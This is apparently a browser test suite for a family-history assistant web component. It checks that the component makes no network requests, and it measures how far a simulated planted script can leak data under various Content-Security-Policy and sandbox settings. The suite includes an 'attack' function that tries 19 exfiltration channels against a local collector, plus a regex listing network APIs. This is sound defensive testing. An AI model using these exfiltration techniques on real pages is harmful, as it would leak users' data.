// Nothing gets out. What was built names no way out of the page (static); and a script that is planted on the page and tries 19 of them
// gets as far as the headers of the page let it (adversarial): the table is docs/assurance/egress.md, written by UPDATE_TABLES=1.
// That the assistant itself asks for nothing, whatever is done with it, is in quiet.test.mjs (dynamic).

import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { mkdirSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { chromium } from "playwright-core";

import { closePage, freshPage, launch } from "./browser.mjs";
import { begin, until } from "./practitioner.mjs";
import { fileOf, richFacts } from "./cases/rich.mjs";
import { catchPrinting } from "./paper.mjs";
import { DIST, serve } from "./servers.mjs";
import { prompt, topics, word } from "./words.mjs";

let browser;
before(async () => { browser = await launch(); });
after(() => browser.close());

const POLICY = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; connect-src 'none'; img-src 'none'; font-src 'none'; form-action 'none'; "
  + "base-uri 'none'; frame-src 'none'; worker-src 'none'; object-src 'none'; require-trusted-types-for 'script'; trusted-types 'none'";
const SANDBOX = "allow-scripts allow-downloads allow-modals allow-forms";

test("what was built names no way out of the page", () => {
  const ways = /\bfetch\s*\(|XMLHttpRequest|WebSocket|EventSource|sendBeacon|RTCPeerConnection|WebTransport|importScripts|serviceWorker|(?:window\.|(?<![.\w]))open\s*\((?![^)]*\)\s*\{)|location\s*(?:\.\w+\s*)?=[^=]|location\.(?:assign|replace)/g;
  for (const name of ["family-history-assistant.js", "embed/family-history-assistant.js", "embed/family-history-assistant-later.js", "family-history-loader.js", "family-history-frame.js"]) {
    const script = readFileSync(join(DIST, name), "utf8");
    // What is in quotes is words and the letters of the wasm; what is asked of the page by the wasm stands in the bindings, outside them.
    const program = script.replace(/"(?:[^"\\]|\\.)*"/gs, '""');
    const found = [...program.matchAll(ways)].map((match) => program.slice(Math.max(0, match.index - 60), match.index + 40));
    // The generated bindings can load a module from an address. The assistant gives them a compiled module, and never an address.
    assert.deepEqual(found.filter((text) => !/fetch\(\w+\)/.test(text)), [], name);
    assert.ok(found.length <= 1, `${name}: ${found.join(" | ")}`);
  }
});

/** What a planted script tries. Each channel has a path of its own at the collector. Runs in the page. */
const attack = async ([at, stun]) => {
  const to = (channel) => `${at}/${channel}`;
  const add = (name, properties, into = document.body) => into.append(Object.assign(document.createElement(name), properties));
  const sheet = (css) => { const made = new CSSStyleSheet(); made.replaceSync(css); document.adoptedStyleSheets = [...document.adoptedStyleSheets, made]; };
  const tries = [
    () => fetch(to("fetch"), { mode: "no-cors" }).catch(() => 0),
    () => { const request = new XMLHttpRequest(); request.open("GET", to("xhr")); request.send(); },
    () => navigator.sendBeacon(to("beacon"), "x"),
    () => new WebSocket(to("websocket").replace("http", "ws")),
    () => new EventSource(to("eventsource")),
    () => { new Image().src = to("image"); },
    () => { add("i", { id: "leak", textContent: "x" }); sheet(`#leak { display: block; background-image: url("${to("css")}") }`); },
    () => add("script", { src: to("script") }),
    () => add("link", { rel: "stylesheet", href: to("stylesheet") }, document.head),
    () => add("link", { rel: "prefetch", href: to("prefetch") }, document.head),
    () => add("link", { rel: "preload", as: "image", href: to("preload") }, document.head),
    () => add("iframe", { src: to("iframe") }),
    () => { const font = new FontFace("leak", `url("${to("font")}")`); document.fonts.add(font); font.load().catch(() => 0); },
    () => { add("form", { action: to("form"), method: "post", target: "elsewhere-form" }); document.forms[document.forms.length - 1].submit(); },
    () => window.open(to("popup")),
    () => { const link = Object.assign(document.createElement("a"), { href: "#", ping: to("ping") }); document.body.append(link); link.click(); },
    () => {
      const call = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
      call.createDataChannel("x");
      return call.createOffer().then((offer) => call.setLocalDescription(offer));
    },
    () => { new Worker(URL.createObjectURL(new Blob([`fetch("${to("worker")}", {mode: "no-cors"})`]))); },
  ];
  for (const one of tries) try { await one(); } catch { /* refused: that is what is counted */ }
  // What was asked for is on its way before the page is taken elsewhere.
  await new Promise((later) => setTimeout(later, 1500));
  try { window.location.href = to("navigation"); } catch { /* refused */ }
};
const CHANNELS = ["fetch", "xhr", "beacon", "websocket", "eventsource", "image", "css", "script", "stylesheet", "prefetch", "preload", "iframe", "font", "form", "popup", "ping", "stun", "worker", "navigation"];

/** A server and a socket that note whatever arrives. */
async function collector() {
  const arrived = new Set();
  const server = createServer((request, response) => {
    const [, name] = request.url.split("/");
    if (CHANNELS.includes(name)) arrived.add(name);
    response.writeHead(200, { "content-type": "text/plain", "access-control-allow-origin": "*" });
    response.end();
  });
  server.on("upgrade", (request, socket) => { arrived.add("websocket"); socket.destroy(); });
  const socket = createSocket("udp4", () => {});
  socket.on("message", () => arrived.add("stun"));
  await new Promise((ready) => server.listen(0, "127.0.0.1", ready));
  await new Promise((ready) => socket.bind(0, "127.0.0.1", ready));
  // `localhost` and `127.0.0.1` are two origins.
  return { arrived, at: `http://localhost:${server.address().port}`, stun: `stun:127.0.0.1:${socket.address().port}`,
    close() { server.close(); server.closeAllConnections(); socket.close(); } };
}

/** The channels that arrive with these headers. The attack is run by the debugger, as a planted script would run in the page. */
async function arrivals({ headers = {}, framed = false, outer = {} }) {
  const there = await collector();
  const body = `<!doctype html><html lang="en-GB"><meta charset="utf-8"><title>Staff page</title><link rel="icon" href="data:,"><script src="family-history-assistant.js" defer></script><body><family-history-assistant></family-history-assistant>`;
  const host = await serve(DIST, { headers: (path) => (path === "/outer.html" ? outer : headers), rules: [
    { path: "/page.html", body },
    { path: "/outer.html", body: `<!doctype html><html lang="en-GB"><meta charset="utf-8"><title>Staff page</title><link rel="icon" href="data:,"><iframe title="Assistant" src="page.html" width="1000" height="800" sandbox="${SANDBOX}"></iframe>` },
  ] });
  const page = await freshPage(browser, { address: `${host.address}/${framed ? "outer" : "page"}.html`, ready: false, framed: false });
  await (framed ? page.frameLocator("iframe") : page).getByRole("heading", { level: 2 }).first().waitFor();
  const inside = framed ? page.frames()[1] : page;
  await inside.evaluate(attack, [there.at, there.stun]).catch(() => { /* the page went away: it navigated */ });
  const end = Date.now() + 1500;
  await until(() => there.arrived.has("navigation") || Date.now() > end, "the last of it had time to arrive", 4000);
  await closePage(page);
  host.close();
  there.close();
  return CHANNELS.filter((channel) => there.arrived.has(channel));
}

const ALLOWLIST = { "connection-allowlist": "(response-origin)" };
const SETTINGS = [
  ["no headers", {}],
  ["strict Content-Security-Policy", { headers: { "content-security-policy": POLICY } }],
  ["the same in the sandboxed frame, with `frame-src` of the host page for its own origin only", { framed: true, headers: { "content-security-policy": POLICY }, outer: { "content-security-policy": "frame-src 'self'" } }],
  ["strict policy with `Connection-Allowlist: (response-origin)`", { headers: { "content-security-policy": POLICY, ...ALLOWLIST } }],
  ["the sandboxed frame with all of these", { framed: true, headers: { "content-security-policy": POLICY, ...ALLOWLIST }, outer: { "content-security-policy": "frame-src 'self'" } }],
];

test("a planted script gets as far as the published table says, and no further", async () => {
  const rows = [];
  for (const [name, setting] of SETTINGS) rows.push([name, await arrivals(setting)]);
  const [, all] = rows[0];
  assert.ok(all.length >= 16, `without headers the collector hears nearly all of them: ${all.join(", ")}`);
  assert.deepEqual(rows.at(-1)[1], [], "with the recommended headers in the recommended frame nothing arrives");
  for (const [name, arrived] of rows.slice(1)) assert.deepEqual(arrived.filter((channel) => !["popup", "stun", "navigation"].includes(channel)), [], name);
  const table = rows.map(([name, arrived]) => `| ${name} | ${arrived.length ? (arrived.length === CHANNELS.length ? `all ${arrived.length}` : arrived.join(", ")) : "none"} |`).join("\n");
  const text = `# What can get out

The assistant itself asks for nothing once it is loaded, and on the page for a frame its second part is loaded by itself, from beside the page,
before anything can be done: its script names no way out of the page, and whatever is done with it no request is made (\`tests/browser/quiet.test.mjs\`, \`tests/browser/egress.test.mjs\`). This page is about the other danger: a script that somebody else has
planted on the same page, for instance through an accessibility plug-in or a chat window.

Such a script tries ${CHANNELS.length} ways out: ${CHANNELS.join(", ")}. What arrived at a collector of ours, in Chromium:

| the page has | arrived |
| --- | --- |
${table}

So a policy alone does not close every way: put the assistant in the sandboxed frame, and add \`Connection-Allowlist\` where browsers know it. A
script in the page around cannot look into the sandboxed frame; in the page itself any script can read what is on the screen.

Written by \`UPDATE_TABLES=1 node --test tests/browser/egress.test.mjs\`; the test fails when the table is no longer true.
`;
  const place = new URL("../../docs/assurance/egress.md", import.meta.url);
  if (process.env.UPDATE_TABLES) {
    mkdirSync(new URL(".", place), { recursive: true });
    writeFileSync(place, text);
  }
  assert.equal(text, readFileSync(place, "utf8"));
});

test("a hostile script in the page around the sandboxed frame learns nothing", async () => {
  const host = await serve(DIST, { rules: [
    { path: "/page.html", body: `<!doctype html><html lang="en-GB"><meta charset="utf-8"><title>Assistant</title><link rel="icon" href="data:,"><script src="family-history-assistant.js" defer></script>
      <script src="family-history-frame.js" data-parents="http://127.0.0.1"></script><body><family-history-assistant></family-history-assistant>` },
    { path: "/outer.html", body: `<!doctype html><html lang="en-GB"><meta charset="utf-8"><title>Staff page</title><link rel="icon" href="data:,"><iframe title="Assistant" src="page.html" width="1200" height="850" sandbox="${SANDBOX}"></iframe>
      <script>
        window.got = []; const frame = document.querySelector("iframe");
        for (const kind of ["message", "keydown", "keyup", "input", "beforeinput", "copy", "paste", "focus", "selectionchange", "fha-ready", "fha-dirty"]) addEventListener(kind, (event) => got.push(kind + ": " + (event.key ?? "") + JSON.stringify(event.data ?? "")), true);
        window.look = () => { for (const try_ of [() => frame.contentDocument.body.innerHTML, () => frame.contentWindow.document.title, () => frame.contentWindow.location.href, () => Object.values(frame.contentWindow).join(), () => frame.contentWindow.name,
          () => document.body.innerHTML, () => frame.contentWindow.getSelection().toString(), () => document.documentElement.outerHTML]) try { got.push(String(try_())); } catch (error) { got.push(error.name); } };
      </script>` },
  ] });
  const page = await freshPage(browser, { address: `${host.address}/outer.html`, ready: false, framed: false });
  const her = begin(page, page.frameLocator("iframe"));
  await her.heading().waitFor();
  await her.goTo("people");
  await her.addPerson("child", "Canary Zqx");
  await page.evaluate(() => window.look());
  const got = await page.evaluate(() => window.got);
  assert.ok(got.filter((one) => one === "SecurityError").length >= 4 || got.includes("null"), got.join("|"));
  assert.equal(got.join("\n").includes("Zqx"), false, "nothing that was typed");
  assert.deepEqual(got.filter((one) => /^(keydown|keyup|input|beforeinput): ./.test(one) && /[CanryZqx]{1}""/.test(one) && !/: (Tab|Enter|Shift)/.test(one)), [], "not even a key");
  await closePage(page);
  host.close();
});

test("under the full strict policy nothing is refused over a whole journey, printing and pictures with it", async () => {
  const host = await serve(DIST, { headers: { "content-security-policy": POLICY, "x-content-type-options": "nosniff", "referrer-policy": "no-referrer" }, rules: [
    { path: "/strict.html", body: `<!doctype html><html lang="en-GB"><meta charset="utf-8"><title>Staff page</title><script src="family-history-assistant.js" defer></script><script src="family-history-training.js" defer></script><body><family-history-assistant agency="hv"></family-history-assistant>` },
    { path: "/favicon.ico", status: 204, body: "" },
  ] });
  const page = await freshPage(browser, { address: `${host.address}/strict.html`, before: async (page) => {
    await catchPrinting(page);
    await page.addInitScript(() => {
      window.refused = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sourceFile }) => window.refused.push(`${effectiveDirective} ${blockedURI} ${sourceFile}`));
    });
  } });
  const her = begin(page);
  await her.goTo("people");
  await her.addPerson("child", "Child under policy", { "person.born": "June 2022" });
  await her.save();
  await her.openFile(fileOf(richFacts()));
  await page.getByText("Larch 3", { exact: true }).waitFor();
  for (const { id } of topics) await her.goTo(id);
  await her.press(word("bar.print"));
  await page.waitForFunction(() => window.timesPrinted > 0);
  await her.save();
  // The browser asks for an icon of its own accord, which the policy of this page forbids as well: that is the page's.
  assert.deepEqual((await page.evaluate(() => window.refused)).filter((one) => !one.includes("favicon")), []);
  assert.deepEqual(page.heard.filter((line) => !/favicon/.test(line)), []);
  await closePage(page);
  host.close();
});

/** Every file below a folder. */
const filesBelow = (folder) => readdirSync(folder, { recursive: true }).map((name) => join(folder, name)).filter((path) => statSync(path, { throwIfNoEntry: false })?.isFile());

test("after a journey nothing that was typed is in any file of the browser's profile", async () => {
  const profile = mkdtempSync(join(tmpdir(), "fha-profile-"));
  const canaries = Array.from({ length: 20 }, (_, at) => `Zq${String.fromCharCode(97 + at)}wvk${at}jx`);
  try {
    const host = await serve(DIST, { headers: { "content-security-policy": POLICY.replace("img-src 'none'", "img-src data:") } });
    const context = await chromium.launchPersistentContext(profile, { executablePath: process.env.FHA_CHROMIUM ?? "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"] });
    const page = await context.newPage();
    page.setDefaultTimeout(8000);
    await page.goto(host.address);
    const her = begin(page);
    await her.heading().waitFor();
    await her.goTo("start");
    const left = [...canaries];
    await her.type(word("head.reference"), left.shift());
    await her.goTo("people");
    for (const role of ["child", "mother", "father", "partner"]) await her.addPerson(role, left.shift(), { "person.born": "June 2012" });
    await her.type(word("quick.people"), left.shift());
    await her.goTo("history");
    for (let time = 0; time < 2; time++) {
      await her.add(word("history.add"), { "event.when": "2024", "event.what": `${left.shift()} ${left.shift()}` });
      await her.done();
    }
    await her.answer(prompt("R1-05a"), left.splice(0).join(" "));
    // The page knows them all, or there would be nothing to look for.
    const known = await page.locator("family-history-assistant").evaluate((element) => [...element.shadowRoot.querySelectorAll("input, textarea")].map(({ value }) => value).join(" "));
    assert.ok(known.includes(canaries.at(-1)));
    page.on("dialog", (dialog) => dialog.accept());
    await page.goto("about:blank");
    await context.close();
    host.close();
    const files = filesBelow(profile);
    assert.ok(files.length > 20, "the browser kept a profile");
    const found = files.flatMap((path) => {
      const bytes = readFileSync(path);
      return canaries.filter((canary) => bytes.includes(canary) || bytes.includes(Buffer.from(canary, "utf16le"))).map((canary) => `${path}: ${canary}`);
    });
    assert.deepEqual(found, []);
    assert.ok(files.some((path) => readFileSync(path).includes(host.address.slice(7)) || readFileSync(path).includes("127.0.0.1")), "what a browser does keep, an address, is found by the same search");
  } finally {
    rmSync(profile, { recursive: true, force: true });
  }
});
